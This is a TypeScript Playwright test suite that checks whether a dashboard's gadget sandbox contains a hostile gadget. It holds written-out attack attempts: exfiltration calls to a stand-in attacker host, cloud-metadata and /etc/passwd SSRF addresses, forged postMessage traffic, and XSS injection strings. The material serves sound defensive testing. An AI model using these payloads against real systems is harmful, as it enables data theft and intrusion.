import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { startBrowser, waitUntil } from './browser.ts';
import { type GadgetStage, type OpenDashboard, openGadgetStage, scripted } from './gadget-stage.ts';
import { clickInside } from './gestures.ts';

/**
 * Every gadget is somebody else's program, and one of them is hostile: whatever it does, the page, the other gadgets
 * and the viewer's data are as if it were not there, and nothing reaches the host that it works for.
 */
describe('a hostile gadget on a dashboard', () => {
  let browser: Browser;
  let stage: GadgetStage;
  let open: OpenDashboard;

  before(async () => {
    browser = await startBrowser();
    stage = await openGadgetStage(browser);
  });
  after(async () => {
    await stage?.close();
    await browser?.close();
  });
  afterEach(async () => {
    await assertWhole();
    await open.page.context().close();
  });

  /** The page is where it was, the honest gadget works, and nothing came to the attacker. */
  async function assertWhole(): Promise<void> {
    const { page } = open;
    assert.equal(new URL(page.url()).pathname, '/dashboards/d1');
    assert.equal(await page.locator('h1').innerText(), 'Dashboard');
    const good = page.frameLocator('[data-gadget-frame=good]');
    await clickInside(good.locator('#again'));
    await good.locator('#data', { hasText: 'data of /good 2 kept' }).waitFor();
    assert.equal(page.context().pages().length, 1);
    assert.deepEqual(stage.reached, []);
  }

  it('cannot look at the page, at other gadgets, or at anything of this origin', async () => {
    const looks = [
      'parent.document',
      'top.document.cookie',
      'parent.frames[0].document',
      'parent.localStorage',
      'document.cookie',
      'localStorage',
      'sessionStorage',
      'navigator.serviceWorker.register("/sw.js")',
      'frameElement.dataset.token',
      'parent.container',
    ];
    open = await stage.open(
      {
        evil: scripted(`window.found = ${JSON.stringify(looks)}.map(function (look) {
          try { var value = eval(look); return look + ': ' + (value && value.then ? 'promised' : value); } catch (error) { return ''; }
        }); try { navigator.serviceWorker.register('/sw.js').then(function () { found.push('registered'); }, function () {}); } catch (error) {}
        indexedDB; try { var db = indexedDB.open('x'); db.onsuccess = function () { found.push('indexedDB'); }; } catch (error) {}
        setTimeout(function () { window.finished = true; });`),
      },
      { until: 'window.finished' },
    );
    const found = (await open.frame('evil').evaluate('window.found.filter(Boolean)')) as string[];
    assert.deepEqual(
      found.filter((one) => !/serviceWorker/.test(one)),
      [],
    );
    assert.equal(await open.frame('evil').evaluate('origin'), 'null');
  });

  for (const [what, script] of [
    ['the page', 'top.location = URL_OF_EVIL'],
    ['the page by its parent', 'parent.location.href = URL_OF_EVIL'],
    ['a new window', 'window.open(URL_OF_EVIL)'],
    ['the page by a link', 'link.target = "_top"; link.href = URL_OF_EVIL; link.click()'],
    ['a window by a link', 'link.target = "_blank"; link.href = URL_OF_EVIL; link.click()'],
    ['the page by a form', 'form.target = "_top"; form.action = URL_OF_EVIL; form.submit()'],
    ['itself by a form', 'form.action = URL_OF_EVIL; form.submit()'],
    ['itself by a form that posts', 'form.method = "post"; form.action = URL_OF_EVIL; form.submit()'],
    ['another gadget', 'parent.frames[0].location = URL_OF_EVIL'],
    ['itself', 'location = URL_OF_EVIL'],
    ['itself by a document of its own', 'location = "data:text/html,<img src=" + URL_OF_EVIL + ">"'],
    [
      'itself by a blob',
      'location = URL.createObjectURL(new Blob(["<img src=" + URL_OF_EVIL + ">"], {type:"text/html"}))',
    ],
    [
      'itself by a refresh',
      'var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + URL_OF_EVIL; document.head.append(m)',
    ],
    ['a window by the approval', 'new gadgets.oauth.Popup(URL_OF_EVIL).createOpenerOnClick()()'],
    ['a window by the page', 'gadgets.views.requestNavigateTo(URL_OF_EVIL)'],
  ] as const) {
    it(`cannot lead ${what} away`, async () => {
      open = await stage.open({
        evil: scripted(`var link = document.body.appendChild(document.createElement('a'));
          var form = document.body.appendChild(document.createElement('form'));
          gadgets.util.registerOnLoadHandler(function () {
            try { ${script.replaceAll('URL_OF_EVIL', `'${stage.evil}/?stolen'`)} } catch (error) {}
          });`),
      });
      assert.deepEqual(await open.events(), []);
    });
  }

  it('cannot carry anything away by itself', async () => {
    const evil = (kind: string) => `'${stage.evil}/${kind}'`;
    const element = (name: string, fields: string) =>
      `Object.assign(document.body.appendChild(document.createElement('${name}')), ${fields});`;
    const tries = [
      `fetch(${evil('fetch')}, { mode: 'no-cors' }).catch(function () {});`,
      `var x = new XMLHttpRequest(); x.open('GET', ${evil('xhr')}); x.send();`,
      `navigator.sendBeacon(${evil('beacon')}, 'x');`,
      `new WebSocket(${evil('socket')}.replace('http', 'ws'));`,
      `new EventSource(${evil('events')});`,
      `new Image().src = ${evil('image')};`,
      element('script', `{ src: ${evil('script')} }`),
      element('link', `{ rel: 'stylesheet', href: ${evil('sheet')} }`),
      element('link', `{ rel: 'prefetch', href: ${evil('prefetch')} }`),
      element('link', `{ rel: 'preload', as: 'image', href: ${evil('preload')} }`),
      element('link', `{ rel: 'icon', href: ${evil('icon')} }`),
      element('link', `{ rel: 'manifest', href: ${evil('manifest')} }`),
      element(
        'style',
        `{ textContent: 'body{background:url(' + ${evil('background')} + ')}@import ' + JSON.stringify(${evil('import')}) }`,
      ),
      element('video', `{ src: ${evil('video')} }`),
      element('iframe', `{ src: ${evil('frame')} }`),
      element('iframe', `{ srcdoc: '<img src=' + ${evil('srcdoc')} + '>' }`),
      element('object', `{ data: ${evil('object')} }`),
      element('embed', `{ src: ${evil('embed')} }`),
      `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(${evil('worker')}) + ')'])));`,
      `import(${evil('module')}).catch(function () {});`,
      `var c = document.createElement('iframe'); document.body.append(c); c.contentWindow.fetch(${evil('inner')}).catch(function () {});`,
    ];
    open = await stage.open(
      {
        evil: scripted(`${JSON.stringify(tries)}.forEach(function (one) { try { (0, eval)(one); } catch (error) {} });
          gadgets.io.makeRequest('${stage.listed}/last', function () { window.finished = true; });`),
      },
      { until: 'window.finished' },
    );
  });

  it('cannot carry anything away by WebRTC', async () => {
    open = await stage.open(
      {
        evil: scripted(`var call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(stage.evil).host}' }] });
          call.createDataChannel('x');
          call.createOffer().then(function (offer) { return call.setLocalDescription(offer); }).catch(function () {}).then(function () {
            gadgets.io.makeRequest('${stage.listed}/last', function () { window.finished = true; });
          });`),
      },
      { until: 'window.finished' },
    );
  });

  it('cannot have the container reach what is not listed', async () => {
    const { listed, evil } = stage;
    const host = new URL(evil).host;
    const addresses = [
      `${evil}/`,
      `${listed.replace('127.0.0.1', '127.0.0.1:1337@127.0.0.1')}/`,
      `http://${new URL(listed).host}@${host}/`,
      `http://${new URL(listed).hostname}:1337@${host}/`,
      `${listed}/away`,
      'http://127.0.0.1/',
      'http://[::1]/',
      'http://169.254.169.254/latest/',
      'file:///etc/passwd',
      'javascript:alert(1)',
      '//evil.example/',
    ];
    open = await stage.open(
      {
        evil: scripted(`window.answers = []; ${JSON.stringify(addresses)}.forEach(function (address) {
          gadgets.io.makeRequest(address, function (answer) { answers.push([address, answer.rc, answer.text]); });
        });`),
      },
      { until: `window.answers && window.answers.length === ${addresses.length}` },
    );
    const answers = (await open.frame('evil').evaluate('window.answers')) as [string, number, string][];
    for (const [address, rc, text] of answers) {
      assert.ok(rc === 400 || rc === 403 || rc === 502, `${address}: ${rc}`);
      assert.equal(text, '');
    }
  });

  it('is not heard as anybody else, and not in words that there are not', async () => {
    open = await stage.open(
      {
        evil: scripted(
          `
          var good = parent.frames[0];
          var channel = new MessageChannel();
          [ 'countersign-gadget', { kind: 'answer', id: 1, answer: { rc: 200, body: 'forged' } }, { kind: 'welcome' } ].forEach(function (word) {
            good.postMessage(word, '*');
            good.postMessage(word, '*', [new MessageChannel().port2]);
          });
          var inner = document.body.appendChild(document.createElement('iframe'));
          inner.srcdoc = "<script>top.postMessage('countersign-gadget', '*', [new MessageChannel().port2])<\\/script>";
          parent.postMessage('countersign-gadget', '*');
          parent.postMessage('countersign-gadget', '*', [new MessageChannel().port2, new MessageChannel().port2]);
          parent.postMessage({ kind: 'title', title: 'Forged' }, '*');
          parent.postMessage('countersign-gadget', '*', [channel.port2]);
          [ null, 1, 'x', [], {}, { kind: 'title' }, { kind: 'title', title: 7 }, { kind: '__proto__' }, { kind: 'constructor' },
            { kind: 'request', id: -1 }, { kind: 'request', id: 1, request: { url: 5 } }, { kind: 'height', pixels: 'x' },
            { kind: 'height', pixels: Infinity }, { kind: 'title', title: 'x'.repeat(300) }, { kind: 'approve', id: 1, url: '/x' },
            { kind: 'preferences', preferences: { town: 'x', other: 'y' } }, { kind: 'view', view: 'canvas' },
            { kind: 'open', url: '${stage.evil}/opened' }, { kind: 'reload' }, { kind: 'publish', channel: 'c', message: 5 },
          ].forEach(function (word) { channel.port1.postMessage(word); });
          channel.port1.onmessage = function (event) { if (event.data.kind === 'answer') window.finished = true; };
          var words = {}; 'method contentType authorization serviceName tokenName useToken refreshSeconds entries summaries signOwner signViewer'
            .split(' ').forEach(function (name) { words[name] = ''; });
          channel.port1.postMessage({ kind: 'request', id: 9, request: Object.assign(words, { url: '${stage.listed}/x', headers: {}, body: '' }), token: 'x' });`,
          '<UserPref name="town"/>',
        ),
      },
      { until: 'window.finished' },
    );
    assert.deepEqual(await open.events(), ['gadget-preferences {"preferences":{"town":"x"}}']);
  });

  it('grows no higher than a gadget may, and its title is a text', async () => {
    open = await stage.open(
      {
        evil: scripted(`gadgets.window.adjustHeight(1e9); gadgets.window.setTitle('<img src=x onerror=alert(1)>');
          gadgets.io.makeRequest('${stage.listed}/x', function () { window.finished = true; });`),
      },
      { until: 'window.finished' },
    );
    const box = await open.page.locator('[data-gadget-frame=evil]').boundingBox();
    assert.ok((box?.height ?? 0) <= 2010, String(box?.height));
    assert.deepEqual(await open.events(), ['gadget-title {"title":"<img src=x onerror=alert(1)>"}']);
  });

  it('is stopped when it floods the page', async () => {
    open = await stage.open({
      evil: scripted(`gadgets.util.registerOnLoadHandler(function () {
        var large = new Array(100000).join('x');
        for (var i = 0; i < 2000; i += 1) { gadgets.pubsub.publish('c', large); gadgets.window.adjustHeight(i); }
      });`),
    });
    await waitUntil(open.page, `window.seen.some((one) => one.includes('stopped'))`);
    await waitUntil(
      open.page,
      `document.querySelector('[data-gadget-frame=evil]').getAttribute('src') === 'about:blank'`,
    );
  });

  it('gets no more of what the server does at once than its viewer’s share', async () => {
    open = await stage.open(
      {
        evil: scripted(`window.rcs = []; for (var i = 0; i < 150; i += 1)
          gadgets.io.makeRequest('${stage.listed}/x', function (answer) { rcs.push(answer.rc); }, { REFRESH_INTERVAL: 0 });`),
      },
      { until: 'window.rcs && window.rcs.length === 150' },
    );
    const codes = (await open.frame('evil').evaluate('window.rcs')) as number[];
    assert.ok(codes.includes(429), 'what waits is bounded');
    assert.ok(codes.includes(200));
  });

  it('is not made of an honest one by what the dashboard’s owner wrote into its preferences', async () => {
    const injections = [
      '"><img src=x onerror="hacked=1">',
      "');hacked=1;('",
      '</script><script>hacked=1</script>',
      '\\',
      ';hacked=1//',
      'javascript:hacked=1',
      '`$' + '{hacked=1}`',
    ];
    const names = injections.map((_, index) => `p${index}`);
    const uses = names.map(
      (name) =>
        `<a title="__UP_${name}__" href="__UP_${name}__">__UP_${name}__</a><script>var a = '__UP_${name}__', b = "__UP_${name}__";</script><script>var c = __UP_${name}__;</script>`,
    );
    const evil = `<Module><ModulePrefs title="__UP_p0__"/>${names.map((name) => `<UserPref name="${name}"/>`).join('')}<Content type="html"><![CDATA[<p id="out"></p>${uses.join('')}<script>
      ${JSON.stringify(names)}.forEach(function (name) { document.getElementById('out').innerHTML += new gadgets.Prefs().getString(name); });
      document.querySelectorAll('a').forEach(function (link) { link.click(); });
      gadgets.io.makeRequest('${stage.listed}/x', function () { window.finished = true; });
    </script>]]></Content></Module>`;
    const preferences = { evil: Object.fromEntries(names.map((name, index) => [name, injections[index]!])) };
    open = await stage.open({ evil }, { preferences, until: 'window.finished' });
    assert.equal(await open.frame('evil').evaluate('typeof window.hacked'), 'undefined');
    assert.equal(await open.frame('evil').locator('img').count(), 0);
  });
});
